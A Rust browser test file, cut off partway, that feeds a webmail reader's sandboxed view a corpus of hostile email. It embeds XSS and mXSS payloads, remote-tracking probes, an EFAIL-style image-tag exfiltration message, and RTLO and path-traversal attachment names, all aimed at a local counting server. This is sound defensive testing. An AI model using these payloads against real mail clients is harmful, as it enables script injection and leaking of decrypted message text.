//! Reading hostile mail safely, proven in headless Chromium and Firefox (issue #6).
//!
//! Every message of the hostile corpus (`client-wasm/pop3-mime/tests/corpus/hostile/*.eml`,
//! at least [`MIN_FILE_CORPUS`] of them, plus a few built-in ones below) is opened in
//! `web/dev/safety.html`, which shows it exactly as the reader does, through
//! `web/message-view.js`. The token `__PROBE__` in a message is replaced by the URL of a local
//! counting HTTP server (with a per-message, per-mode path prefix, so every request is
//! attributable).
//!
//! How a script that ran is seen: the payloads announce themselves with `top.__xss=1`, which
//! throws inside a frame without same-origin before anything after it runs. The test rewrites
//! each of them to `top.postMessage('xss-…','*')`, which any frame may send, and the page
//! records every message it receives ([`DETECTOR_JS`]). A control run shows the same messages
//! in a frame that may run scripts and has no CSP: the detector must trip there (at least
//! [`MIN_CONTROL_TRIPS`] messages, [`MUST_TRIP`] among them), or its silence elsewhere would
//! prove nothing.
//!
//! Proven, per browser:
//! - sanitized view (wasm sanitizer + sandboxed frame): every message with HTML reaches a
//!   frame, no script runs, and the counting server gets no request of any kind until the
//!   user clicks "Load remote content"; after it, that message's remote images load, still
//!   without any script path; the next message again makes none;
//! - sanitizer switched off (an unsanitizing `render` is injected; see web/dev/safety.js):
//!   every message is shown in a frame, and the iframe layer alone (sandbox without scripts +
//!   CSP `default-src 'none'`) stops every script and every request, except in Firefox the
//!   images named in `srcset` attributes (see that case for why; the name says so);
//! - the frame's sandbox never contains allow-scripts or allow-same-origin;
//! - attachments: saved as application/octet-stream with a `download` name; hostile file
//!   names (RTLO, `../`, NUL) are shown cleaned;
//! - plain text: shown in a sandboxed frame of its own, with the same sandbox and policy
//!   (checked like the HTML frame's, and counted by the same script detector), escaped, and
//!   only http, https and mailto become links; HTML links carry their real URL;
//! - the real reader: the whole corpus opened in `<pop3-inbox>` (mock user `hostile`, page
//!   `web/dev/safety-inbox.html` without CSP) runs no script and makes no request, shows the
//!   HTML messages in its frame, and shows hostile header text as text (its own header
//!   fields; the test page's are written by the test page and prove nothing); on
//!   `index.html` the reader uses the same frame, offers the plain text (in its own frame,
//!   kept for instant toggling) and forgets the view (and its opt-in) when it closes.
//!
//! One browser per kind serves all cases; the bridge serves the pages, with its dev pages on.
//! Screenshots go to target/screenshots/.

use std::error::Error;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use base64::Engine as _;
use e2e::browser::{Browser, BrowserKind};
use e2e::counting_server::{CountingServer, is_script_path};
use fantoccini::Locator;
use fantoccini::key::Key;
use serde_json::{Value as Json, json};
use web_bridge::WebBridge;

mod web_bridge;

type R<T = ()> = Result<T, Box<dyn Error + Send + Sync>>;

/// Messages of the corpus (built-in and files) that have HTML the sanitized view must show in
/// a frame; fewer means the corpus or the parser lost them, and the frame was never tested.
const MIN_HTML_MESSAGES: usize = 25;

/// Messages of the corpus whose HTML still has text to show after sanitizing (23 with the 27
/// corpus files and the built-in ones): the reader must show at least these in its frame with
/// that text in the frame's body. Fewer means frames were shown empty, which proves nothing.
const MIN_HTML_WITH_TEXT: usize = 23;

/// Messages whose payloads must signal in the control run (a frame that runs scripts, no
/// CSP): if one of these stays silent there, the detector is blind, not the frame safe.
const MUST_TRIP: &[&str] = &[
    "builtin/classic-xss",
    "corpus/xss-script.eml",
    "corpus/xss-event-handlers.eml",
    "corpus/mxss-svg.eml",
];

/// Messages whose payloads must signal in the control run, at least.
const MIN_CONTROL_TRIPS: usize = 12;

/// Time for anything lazy (CSS images after layout, prefetch) after the frame's load event.
const SETTLE: Duration = Duration::from_millis(150);

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn ensure(cond: bool, what: impl Into<String>) -> R {
    if cond {
        Ok(())
    } else {
        Err(what.into().into())
    }
}

/// A test message: a name for reports and the raw bytes with `__PROBE__` still in them.
struct Mail {
    name: String,
    raw: Vec<u8>,
}

/// Built-in hostile messages, so the frame layer is tested even without the corpus files.
fn builtin_corpus() -> Vec<Mail> {
    let m = |name: &str, raw: &str| Mail {
        name: format!("builtin/{name}"),
        raw: raw.replace('\n', "\r\n").into_bytes(),
    };
    vec![
        m(
            "classic-xss",
            r#"From: "<img src=x onerror=window.__xss=1>" <evil@example.com>
To: you@example.org
Subject: <script>window.__xss=1</script> hello
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<script>window.__xss=1;top.__xss=1;parent.__xss=1</script>
<script src="__PROBE__/script.js"></script>
<img src="x" onerror="top.__xss=1;new Image().src='__PROBE__/beacon-onerror'">
<svg onload="top.__xss=1"><script>top.__xss=1</script></svg>
<body onload="top.__xss=1">
<a href="javascript:top.__xss=1">click</a>
<iframe src="__PROBE__/frame-script.html"></iframe>
<iframe srcdoc="<script>top.__xss=1</script>"></iframe>
<object data="__PROBE__/object-script.html"></object>
<embed src="__PROBE__/embed-script.swf">
<form action="__PROBE__/form-beacon"><input name=a value=b autofocus onfocus="top.__xss=1"></form>
<math><mtext><table><mglyph><style><img src=x onerror="top.__xss=1"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.__xss=1>"></noscript>
"#,
        ),
        m(
            "remote-probes",
            r#"From: Tracker <t@example.com>
To: you@example.org
Subject: Remote content probes
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<meta http-equiv="refresh" content="0;url=__PROBE__/refresh-beacon">
<link rel="stylesheet" href="__PROBE__/style.css">
<link rel="prefetch" href="__PROBE__/prefetch">
<link rel="preload" as="image" href="__PROBE__/preload.png">
<base href="__PROBE__/base/">
<style>@import url("__PROBE__/import.css"); @font-face { font-family: X; src: url("__PROBE__/font.woff"); }
body { background: url("__PROBE__/bg.png"); font-family: X; }</style>
</head><body>
<p>Hello, this message has a tracking pixel.</p>
<img src="__PROBE__/img/pixel.gif" width="40" height="40" alt="pixel">
<img srcset="__PROBE__/img/srcset.gif 1x" alt="srcset">
<picture><source srcset="__PROBE__/img/source.gif"><img alt="picture"></picture>
<div style="background-image:url('__PROBE__/img/inline-bg.gif');width:20px;height:20px"></div>
<svg><image href="__PROBE__/img/svg-image.gif" width="10" height="10"/></svg>
<video poster="__PROBE__/img/poster.gif"></video>
<a href="https://example.org/real" ping="__PROBE__/ping-beacon">https://bank.example/</a>
<a href="relative-link">relative</a>
</body></html>
"#,
        ),
        m(
            "efail-open-img",
            r#"From: a@example.com
To: you@example.org
Subject: EFAIL-style parts
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="BB"

--BB
Content-Type: text/html; charset=utf-8

<img src="__PROBE__/img/efail?secret=
--BB
Content-Type: text/plain; charset=utf-8

the secret plaintext
--BB
Content-Type: text/html; charset=utf-8

">
--BB--
"#,
        ),
        m(
            "attachments",
            "From: a@example.com\nTo: you@example.org\nSubject: Attachments with hostile names\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"XX\"\n\n--XX\nContent-Type: text/plain; charset=utf-8\n\nSee attached.\n--XX\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--XX\nContent-Type: text/html\nContent-Disposition: attachment; filename=\"../../../etc/evil.html\"\n\n<script>top.__xss=1</script><img src=\"__PROBE__/attachment-script.js\">\n--XX\nContent-Type: image/svg+xml\nContent-Disposition: attachment; filename*=utf-8''a%00b%0Dc.svg\n\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.__xss=1\"/>\n--XX--\n",
        ),
    ]
}

/// The shared corpus has 27 messages; fewer than this means the folder moved or emptied, and
/// a loader that silently found nothing would turn every case below into a test of the four
/// built-in messages.
const MIN_FILE_CORPUS: usize = 20;

/// The shared corpus written with the MIME crate. Panics when it is missing or small.
fn file_corpus() -> Vec<Mail> {
    let dir = root().join("client-wasm/pop3-mime/tests/corpus/hostile");
    let entries = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("the hostile corpus {} cannot be read: {e}", dir.display()));
    let mut out: Vec<Mail> = entries
        .map(|e| e.expect("corpus entry").path())
        .filter(|p| p.extension().is_some_and(|x| x == "eml"))
        .map(|p| Mail {
            name: format!(
                "corpus/{}",
                p.file_name().unwrap_or_default().to_string_lossy()
            ),
            raw: std::fs::read(&p).unwrap_or_else(|e| panic!("corpus file {}: {e}", p.display())),
        })
        .collect();
    assert!(
        out.len() >= MIN_FILE_CORPUS,
        "the hostile corpus {} has {} .eml files, fewer than {MIN_FILE_CORPUS}: moved or emptied?",
        dir.display(),
        out.len()
    );
    out.sort_by(|a, b| a.name.cmp(&b.name));
    out
}

/// `__PROBE__` -> `http://127.0.0.1:PORT/<prefix>`, so each request names its message and mode.
fn with_probe(raw: &[u8], base: &str) -> Vec<u8> {
    let needle = b"__PROBE__";
    let mut out = Vec::with_capacity(raw.len() + 64);
    let mut i = 0;
    while i < raw.len() {
        if raw[i..].starts_with(needle) {
            out.extend_from_slice(base.as_bytes());
            i += needle.len();
        } else {
            out.push(raw[i]);
            i += 1;
        }
    }
    out
}

/// The payloads announce themselves with `window.top.__xss=1` (and `top.`, `parent.`,
/// `window.` variants; `=3D1` in quoted-printable). Inside a frame without same-origin that
/// assignment throws before anything after it runs, so a frame that regressed to running
/// scripts would leave no trace. Each is rewritten to `top.postMessage('xss-TAG','*')`,
/// which a script may do from any frame, sandboxed or not; the page records every message
/// it receives (see [`DETECTOR_JS`]). The replacement has no space, `=` or `"`, so it
/// survives unquoted attributes, quoted-printable and double-quoted handlers alike.
fn with_signal(raw: &[u8], tag: &str) -> Vec<u8> {
    let call = format!("top.postMessage('xss-{tag}','*')");
    let needle = b"__xss=";
    let mut out = Vec::with_capacity(raw.len() + 256);
    let mut i = 0;
    while i < raw.len() {
        if raw[i..].starts_with(needle) {
            let rest = &raw[i + needle.len()..];
            let value = if rest.starts_with(b"1") {
                Some(1)
            } else if rest.starts_with(b"3D1") {
                Some(3)
            } else {
                None
            };
            if let Some(n) = value {
                // Take back the `window.` / `top.` / `parent.` prefix already copied.
                loop {
                    let cut = [&b"window."[..], b"top.", b"parent."]
                        .iter()
                        .find(|p| out.ends_with(p))
                        .map(|p| p.len());
                    match cut {
                        Some(c) => out.truncate(out.len() - c),
                        None => break,
                    }
                }
                out.extend_from_slice(call.as_bytes());
                i += needle.len() + n;
                continue;
            }
        }
        out.push(raw[i]);
        i += 1;
    }
    out
}

/// A message as the cases open it: probe URLs with `base`, payloads signalling with `tag`.
fn prepared(mail: &Mail, base: &str, tag: &str) -> Vec<u8> {
    with_signal(&with_probe(&mail.raw, base), tag)
}

/// Records in the page every `postMessage` it receives (`window.__signals`). Installed by
/// the test after each navigation, before any message is shown.
const DETECTOR_JS: &str = "if (!window.__signals) {
  window.__signals = [];
  window.addEventListener('message', (e) => {
    window.__signals.push({ data: String(e.data).slice(0, 200), origin: String(e.origin) });
  });
}
return true;";

async fn install_detector(b: &Browser) -> R {
    b.js(DETECTOR_JS, vec![]).await?;
    Ok(())
}

/// How many messages the page has received so far.
async fn signal_count(b: &Browser) -> R<usize> {
    let v = b.js("return window.__signals.length;", vec![]).await?;
    v.as_u64()
        .map(|n| n as usize)
        .ok_or_else(|| format!("the detector is not installed: {v}").into())
}

/// The messages received after the first `from`.
async fn signals_since(b: &Browser, from: usize) -> R<Vec<String>> {
    let v = b
        .js(
            "return window.__signals.slice(arguments[0]).map((s) => s.data + ' from ' + s.origin);",
            vec![json!(from)],
        )
        .await?;
    Ok(v.as_array()
        .into_iter()
        .flatten()
        .map(|x| x.as_str().unwrap_or_default().to_owned())
        .collect())
}

struct Ctx<'a> {
    b: &'a Browser,
    probe: &'a CountingServer,
    /// The control run's own probe: its requests must not count against the real cases.
    control_probe: &'a CountingServer,
    corpus: Vec<Mail>,
}

impl Ctx<'_> {
    async fn shot(&self, name: &str) -> R {
        let path = root()
            .join("target/screenshots")
            .join(format!("{}-{name}.png", self.b.kind.name()));
        self.b.screenshot(&path).await?;
        Ok(())
    }
}

/// Runs an async page function (last argument is the callback) and returns its value.
async fn js_async(b: &Browser, script: &str, args: Vec<Json>) -> R<Json> {
    Ok(b.client.execute_async(script, args).await?)
}

/// State of the page after a message was shown: the flag, the frame's attributes and whether
/// it really shows something (loaded, with a non-empty body). The page's own header fields
/// are not looked at: safety.js writes them with `textContent` itself, so they prove nothing
/// about the product (the inbox case checks the reader's headers instead).
async fn page_state(b: &Browser) -> R<Json> {
    Ok(b
        .js(
            "const f = document.querySelector('#body iframe:not([hidden])');
             const doc = f ? (f.srcdoc || '') : '';
             const at = doc.indexOf('<body>');
             return {
               xss: window.__xss === undefined ? null : String(window.__xss),
               frame: f ? { sandbox: f.getAttribute('sandbox'), referrer: f.getAttribute('referrerpolicy'),
                            csp: f.getAttribute('csp'), srcdocHead: doc.slice(0, 400),
                            loaded: !!f.dataset.loaded,
                            bodyLength: at < 0 ? 0 : doc.slice(at + 6).replace(/<\\/body><\\/html>$/, '').trim().length } : null,
               remoteBar: !!document.querySelector('#body .remote-bar:not([hidden])'),
             };",
            vec![],
        )
        .await?)
}

/// Whether the state shows a loaded frame with something in its body.
fn shown_in_frame(state: &Json) -> bool {
    state["frame"]["loaded"] == true && state["frame"]["bodyLength"].as_u64().unwrap_or(0) > 0
}

/// The frame's sandbox and policy are the ones message-view.js promises.
fn check_frame(state: &Json, name: &str, allow_remote: bool) -> R {
    let f = &state["frame"];
    if f.is_null() {
        return Ok(()); // neither HTML nor text: a note, no frame
    }
    let sandbox = f["sandbox"].as_str().unwrap_or("");
    let tokens: Vec<&str> = sandbox.split_ascii_whitespace().collect();
    ensure(
        f["sandbox"].is_string()
            && !tokens.iter().any(|t| {
                t.eq_ignore_ascii_case("allow-scripts")
                    || t.eq_ignore_ascii_case("allow-same-origin")
            }),
        format!("{name}: sandbox must not allow scripts or same-origin: {f}"),
    )?;
    ensure(
        f["referrer"] == "no-referrer",
        format!("{name}: frame referrerpolicy: {f}"),
    )?;
    let head = f["srcdocHead"].as_str().unwrap_or("");
    let img = if allow_remote {
        "img-src data: cid: http: https:"
    } else {
        "img-src data: cid:;"
    };
    ensure(
        head.contains("http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; ")
            && head.contains(img)
            && !head.contains("script-src")
            && head.contains("<meta name=\"referrer\" content=\"no-referrer\">")
            && head.contains("<base target=\"_blank\">"),
        format!("{name}: frame policy (allow_remote={allow_remote}): {head}"),
    )?;
    Ok(())
}

impl Ctx<'_> {
    /// Opens `raw` on the test page (sanitizer on or off); returns once its frame has loaded.
    async fn open_mail(&self, raw: &[u8], sanitizer: bool) -> R<Json> {
        let b64 = base64::engine::general_purpose::STANDARD.encode(raw);
        let v = js_async(
            self.b,
            "const [b64, sanitizer, done] = arguments;
             window.__safety.open(b64, { sanitizer }).then(done, (e) => done({ error: String(e && e.stack || e) }));",
            vec![json!(b64), json!(sanitizer)],
        )
        .await?;
        ensure(v["error"].is_null(), format!("open failed: {v}"))?;
        ensure(
            v["loaded"] == true,
            format!("message did not finish loading: {v}"),
        )?;
        tokio::time::sleep(SETTLE).await;
        Ok(v)
    }

    async fn load_remote(&self) -> R<bool> {
        let v = js_async(
            self.b,
            "const done = arguments[0]; window.__safety.loadRemote().then(done, (e) => done(String(e)));",
            vec![],
        )
        .await?;
        tokio::time::sleep(SETTLE).await;
        Ok(v == true)
    }

    fn script_hits(&self) -> Vec<String> {
        self.probe
            .hits()
            .into_iter()
            .filter(|h| is_script_path(&h.path))
            .map(|h| h.path)
            .collect()
    }
}

// ---------------------------------------------------------------------------- cases

/// Sanitizer + frame: no script, no request before the opt-in; remote images after it; the
/// next message starts blocked again.
async fn sanitized_view_blocks_scripts_and_remote_content_until_opt_in(cx: &Ctx<'_>) -> R {
    let mut failures = Vec::new();
    let mut loaded_after_opt_in = Vec::new();
    let (mut has_html, mut framed) = (0, 0);
    for (i, mail) in cx.corpus.iter().enumerate() {
        let prefix = format!("/s{i}/");
        let raw = prepared(
            mail,
            &format!("{}/s{i}", cx.probe.base_url()),
            &format!("s{i}"),
        );
        let before = cx.probe.hits();
        let signals = signal_count(cx.b).await?;
        let opened = cx.open_mail(&raw, true).await?;
        let st = page_state(cx.b).await?;
        if let Err(e) = check_frame(&st, &mail.name, false) {
            failures.push(e.to_string());
        }
        // Every message with HTML must reach a frame (the sanitizer may leave its body empty).
        if opened["hasHtml"] == true {
            has_html += 1;
            if st["frame"]["loaded"] == true {
                framed += usize::from(shown_in_frame(&st));
            } else {
                failures.push(format!(
                    "{}: has HTML but no frame shows it: {st}",
                    mail.name
                ));
            }
        }
        let new: Vec<_> = cx
            .probe
            .hits()
            .into_iter()
            .skip(before.len())
            .map(|h| h.path)
            .collect();
        if !new.is_empty() {
            failures.push(format!("{}: requests before opt-in: {new:?}", mail.name));
        }
        if !st["xss"].is_null() {
            failures.push(format!("{}: a script ran in the page: {st}", mail.name));
        }
        if st["remoteBar"] == true {
            ensure(
                cx.load_remote().await?,
                format!("{}: remote content did not load", mail.name),
            )?;
            let st = page_state(cx.b).await?;
            if let Err(e) = check_frame(&st, &mail.name, true) {
                failures.push(e.to_string());
            }
            let hits = cx.probe.hits_under(&prefix);
            if !hits.is_empty() {
                loaded_after_opt_in.push(mail.name.clone());
            }
            if st["remoteBar"] == true || !st["xss"].is_null() {
                failures.push(format!("{}: after opt-in: {st}", mail.name));
            }
        }
        let scripts = cx.script_hits();
        if !scripts.is_empty() {
            failures.push(format!(
                "{}: script/beacon requests: {scripts:?}",
                mail.name
            ));
            cx.probe.clear();
        }
        // Before and after the opt-in: no script anywhere (a sandboxed one included) signalled.
        let ran = signals_since(cx.b, signals).await?;
        if !ran.is_empty() {
            failures.push(format!("{}: scripts ran: {ran:?}", mail.name));
        }
    }
    eprintln!(
        "{}: sanitized view: {has_html} of {} messages with HTML in a frame, {framed} of them with something left after sanitizing",
        cx.b.kind.name(),
        cx.corpus.len()
    );
    ensure(
        has_html >= MIN_HTML_MESSAGES,
        format!("only {has_html} messages had HTML to show (at least {MIN_HTML_MESSAGES})"),
    )?;
    ensure(
        framed >= MIN_HTML_WITH_TEXT,
        format!(
            "only {framed} messages were shown in a frame with a body (at least {MIN_HTML_WITH_TEXT})"
        ),
    )?;
    ensure(
        loaded_after_opt_in
            .iter()
            .any(|n| n == "builtin/remote-probes"),
        format!("remote images load after the opt-in (loaded for: {loaded_after_opt_in:?})"),
    )?;
    // The opt-in belonged to that one opening: the same message opened again is blocked again.
    let (i, mail) = cx
        .corpus
        .iter()
        .enumerate()
        .find(|(_, m)| m.name == "builtin/remote-probes")
        .ok_or("remote-probes message missing")?;
    let raw = prepared(mail, &format!("{}/again{i}", cx.probe.base_url()), "again");
    cx.open_mail(&raw, true).await?;
    let st = page_state(cx.b).await?;
    let hits = cx.probe.hits_under("/again");
    if !hits.is_empty() || st["remoteBar"] != true {
        failures.push(format!(
            "reopened after the opt-in: requests {hits:?}, state {st}"
        ));
    }
    ensure(failures.is_empty(), failures.join("\n"))
}

/// Plain text: shown in its own sandboxed frame (same sandbox and policy as the HTML one),
/// where only http, https and mailto become links (with the real URL as title, no referrer,
/// new context); `javascript:` and `data:` stay text; nothing becomes markup; no link is in
/// the page itself.
async fn plain_text_links_only_http_https_mailto(cx: &Ctx<'_>) -> R {
    let raw = "From: a@example.com\r\nTo: you@example.org\r\nSubject: links\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n<b>not bold</b> see https://example.org/a?b=1&c=2. or mailto:ann@example.org\r\njavascript:top.__xss=1 data:text/html,<script>top.__xss=1</script> ftp://example.org/x &amp; \"q\" 'a'\r\n";
    cx.open_mail(raw.as_bytes(), true).await?;
    // safety.js waits for the HTML view's frame only.
    cx.b.wait_js(
        "the plain-text frame",
        "(() => { const f = document.querySelector('#body iframe.message-text-frame:not([hidden])'); return !!(f && f.dataset.loaded); })()",
        Duration::from_secs(10),
    )
    .await?;
    let st = page_state(cx.b).await?;
    ensure(
        !st["frame"].is_null(),
        format!("plain text: no frame: {st}"),
    )?;
    check_frame(&st, "plain text", false)?;
    ensure(
        st["frame"]["srcdocHead"]
            .as_str()
            .unwrap_or_default()
            .contains("<meta http-equiv=\"x-dns-prefetch-control\" content=\"off\">"),
        format!("plain text: the frame does not turn DNS prefetching off: {st}"),
    )?;
    // What the frame's document holds, read inside it through WebDriver.
    let frame =
        cx.b.find("#body iframe.message-text-frame:not([hidden])")
            .await?;
    frame.enter_frame().await?;
    let inside = cx
        .b
        .js(
            "const pre = document.querySelector('pre.p3-plain');
             return { links: [...pre.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.title, a.rel, a.target, a.referrerPolicy]),
                      elements: document.body.querySelectorAll('*:not(pre.p3-plain):not(pre.p3-plain > a)').length,
                      text: pre.textContent };",
            vec![],
        )
        .await;
    cx.b.client.enter_parent_frame().await?;
    let v = inside?;
    let page =
        cx.b.js(
            "return { pageLinks: document.querySelectorAll('#body a').length,
                      htmlFrame: !!document.querySelector('#body .message-frame-slot iframe'),
                      remoteBar: !!document.querySelector('#body .remote-bar:not([hidden])'),
                      xss: window.__xss ?? null };",
            vec![],
        )
        .await?;
    let nr = "noopener noreferrer";
    let link = |u: &str| json!([u, u, nr, "_blank", "no-referrer"]);
    let text = v["text"].as_str().unwrap_or("");
    ensure(
        v["links"]
            == json!([
                link("https://example.org/a?b=1&c=2"),
                link("mailto:ann@example.org")
            ])
            && v["elements"] == 0
            && text.contains("<b>not bold</b>")
            && text.contains("<script>top.__xss=1</script> ftp://example.org/x &amp; \"q\" 'a'"),
        format!("plain-text links: {v}"),
    )?;
    ensure(
        page["pageLinks"] == 0
            && page["htmlFrame"] == false
            && page["remoteBar"] == false
            && page["xss"].is_null(),
        format!("plain-text view, the page: {page}"),
    )?;
    Ok(())
}

/// URLs the message names in `srcset` attributes (of `<img>` and `<picture><source>`), after
/// the probe was put in: the one kind of request Firefox lets past a srcdoc frame's `<meta>`
/// policy (see [`frame_alone_stops_every_script_and_every_request_but_firefox_srcset`]).
fn srcset_urls(raw: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(raw);
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(at) = lower[from..].find("srcset=") {
        let start = from + at + "srcset=".len();
        let rest = &text[start..];
        let (value, used) = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => {
                let body = &rest[1..];
                let end = body.find(q).unwrap_or(body.len());
                (&body[..end], end + 1)
            }
            _ => {
                let end = rest
                    .find(|c: char| c.is_whitespace() || c == '>')
                    .unwrap_or(rest.len());
                (&rest[..end], end)
            }
        };
        for candidate in value.split(',') {
            if let Some(url) = candidate.split_whitespace().next() {
                out.push(url.to_owned());
            }
        }
        from = start + used;
    }
    out
}

/// The sanitizer switched off: the frame layer alone stops every script and every request,
/// except, in Firefox only, the images named in `srcset` attributes. Firefox (153 ESR here)
/// fetches `srcset` and `<picture><source srcset>` images in a srcdoc frame despite the
/// frame's `<meta>` CSP (plain `src` images are blocked); the frame cannot be made to stop
/// them without a policy that exists before the document is parsed, which only the embedding
/// page's own CSP (inherited by the frame, as in index.html, where Firefox blocks them) or a
/// `csp` attribute (refused by Chromium, see message-view.js) could give. This test page has
/// no CSP on purpose, so the exception is stated in the name and kept exact: only those
/// URLs of that message, only as image fetches, only in Firefox. With the sanitizer on,
/// `srcset` never reaches the frame and no request at all is allowed (the other case).
async fn frame_alone_stops_every_script_and_every_request_but_firefox_srcset(cx: &Ctx<'_>) -> R {
    let mut failures = Vec::new();
    let mut framed = 0;
    for (i, mail) in cx.corpus.iter().enumerate() {
        let raw = prepared(
            mail,
            &format!("{}/r{i}", cx.probe.base_url()),
            &format!("r{i}"),
        );
        let srcset: Vec<String> = srcset_urls(&raw)
            .into_iter()
            .filter_map(|u| u.strip_prefix(&cx.probe.base_url()).map(str::to_owned))
            .collect();
        let before = cx.probe.hits().len();
        let signals = signal_count(cx.b).await?;
        cx.open_mail(&raw, false).await?;
        let st = page_state(cx.b).await?;
        if let Err(e) = check_frame(&st, &mail.name, false) {
            failures.push(e.to_string());
        }
        // Every message goes to the frame here (rawRender gives each one HTML): one that did
        // not reach it tested nothing.
        if shown_in_frame(&st) {
            framed += 1;
        } else {
            failures.push(format!("{}: not shown in a frame: {st}", mail.name));
        }
        if !st["xss"].is_null() {
            failures.push(format!("{}: a script ran in the page: {st}", mail.name));
        }
        let ran = signals_since(cx.b, signals).await?;
        if !ran.is_empty() {
            failures.push(format!("{}: scripts ran in the frame: {ran:?}", mail.name));
        }
        let new: Vec<_> = cx.probe.hits().into_iter().skip(before).collect();
        let tolerated = |h: &e2e::counting_server::Hit| {
            cx.b.kind == BrowserKind::Firefox
                && h.is_image()
                && !is_script_path(&h.path)
                && srcset.contains(&h.path)
        };
        let bad: Vec<_> = new.iter().filter(|h| !tolerated(h)).collect();
        if !bad.is_empty() {
            failures.push(format!(
                "{}: requests with the sanitizer off: {bad:?}",
                mail.name
            ));
        }
        let images: Vec<_> = new
            .iter()
            .filter(|h| tolerated(h))
            .map(|h| h.path.clone())
            .collect();
        if !images.is_empty() {
            eprintln!(
                "{}: {}: srcset image fetches past the frame's <meta> CSP: {images:?}",
                cx.b.kind.name(),
                mail.name
            );
        }
    }
    eprintln!(
        "{}: frame alone: {framed} of {} messages shown in a frame",
        cx.b.kind.name(),
        cx.corpus.len()
    );
    ensure(failures.is_empty(), failures.join("\n"))
}

/// The control of the script detector: the same messages, unsanitized, in a frame that may
/// run scripts and has no CSP (built by the test page, never by message-view.js). Their
/// payloads must signal here, or "no script ran" in the other cases proves nothing.
async fn detector_trips_on_a_frame_that_runs_scripts(cx: &Ctx<'_>) -> R {
    let mut tripped = Vec::new();
    let mut silent = Vec::new();
    for (i, mail) in cx.corpus.iter().enumerate() {
        let raw = prepared(
            mail,
            &format!("{}/c{i}", cx.control_probe.base_url()),
            &format!("c{i}"),
        );
        let signals = signal_count(cx.b).await?;
        let b64 = base64::engine::general_purpose::STANDARD.encode(&raw);
        let v = js_async(
            cx.b,
            "const [b64, done] = arguments;
             window.__safety.openControl(b64).then(done, (e) => done({ error: String(e && e.stack || e) }));",
            vec![json!(b64)],
        )
        .await?;
        ensure(
            v["loaded"] == true,
            format!("{}: control frame: {v}", mail.name),
        )?;
        tokio::time::sleep(SETTLE * 2).await;
        let ran = signals_since(cx.b, signals).await?;
        let own = format!("xss-c{i} ");
        if ran.iter().any(|s| s.starts_with(&own)) {
            tripped.push(mail.name.clone());
        } else {
            silent.push(mail.name.clone());
        }
    }
    js_async(cx.b, "window.__safety.close(); arguments[0](1);", vec![]).await?;
    eprintln!(
        "{}: control: {} of {} messages ran a script; silent: {silent:?}",
        cx.b.kind.name(),
        tripped.len(),
        cx.corpus.len()
    );
    let missing: Vec<_> = MUST_TRIP
        .iter()
        .filter(|n| !tripped.iter().any(|t| t == *n))
        .collect();
    ensure(
        missing.is_empty() && tripped.len() >= MIN_CONTROL_TRIPS,
        format!(
            "the detector missed scripts in a frame that runs them: {} tripped (at least {MIN_CONTROL_TRIPS}), missing {missing:?}",
            tripped.len()
        ),
    )?;
    ensure(
        !cx.control_probe.hits().is_empty(),
        "the control's payloads made no request either",
    )
}

/// Attachments: cleaned names, real extension, octet-stream downloads with a name.
async fn attachments_save_as_octet_stream_with_clean_names(cx: &Ctx<'_>) -> R {
    let mail = cx
        .corpus
        .iter()
        .find(|m| m.name == "builtin/attachments")
        .ok_or("attachments message missing")?;
    let raw = prepared(mail, &format!("{}/att", cx.probe.base_url()), "att");
    let signals = signal_count(cx.b).await?;
    cx.open_mail(&raw, true).await?;
    let v =
        cx.b.js(
            "return [...document.querySelectorAll('#attachments .attachment')].map(li => ({
               name: li.querySelector('.attachment-name').textContent,
               meta: li.querySelector('.attachment-meta').textContent }));",
            vec![],
        )
        .await?;
    let items = v.as_array().cloned().unwrap_or_default();
    ensure(items.len() == 3, format!("three attachments listed: {v}"))?;
    for it in &items {
        let name = it["name"].as_str().unwrap_or("");
        ensure(
            !name.chars().any(|c| {
                c.is_control()
                    || matches!(c, '/' | '\\' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
            }) && !name.starts_with('.'),
            format!("attachment name is cleaned: {name:?}"),
        )?;
    }
    let names: Vec<&str> = items.iter().filter_map(|i| i["name"].as_str()).collect();
    ensure(
        names.first().is_some_and(|n| n.ends_with(".exe"))
            && items[0]["meta"].as_str().unwrap_or("").starts_with("EXE"),
        format!("RTLO name shows its real extension .exe: {v}"),
    )?;
    ensure(
        names.get(1).is_some_and(|n| *n == "evil.html"),
        format!("path stripped from ../../../etc/evil.html: {v}"),
    )?;
    cx.shot("attachments").await?;

    cx.b.js("window.__saves = []; document.querySelectorAll('#attachments button.save').forEach(b => b.click()); return 1;", vec![])
        .await?;
    let saves =
        cx.b.wait_js(
            "three saves",
            "window.__saves.length === 3 && window.__saves",
            Duration::from_secs(5),
        )
        .await?;
    for (s, want) in saves
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .zip(&names)
    {
        ensure(
            s["download"] == json!(want)
                && s["blob"]["type"] == "application/octet-stream"
                && s["href"].as_str().unwrap_or("").starts_with("blob:"),
            format!("saved as an octet-stream download named {want:?}: {s}"),
        )?;
    }
    ensure(
        cx.b.js("return window.__xss === undefined;", vec![])
            .await?
            == true,
        "no script ran while saving",
    )?;
    let ran = signals_since(cx.b, signals).await?;
    ensure(
        ran.is_empty(),
        format!("no script ran while saving: {ran:?}"),
    )?;
    let hits = cx.probe.hits_under("/att");
    ensure(
        hits.is_empty(),
        format!("no request from the attachments message: {hits:?}"),
    )?;
    Ok(())
}

/// A pleasant HTML message for the screenshot (and a check that the HTML view is the default).
async fn html_message_screenshot(cx: &Ctx<'_>) -> R {
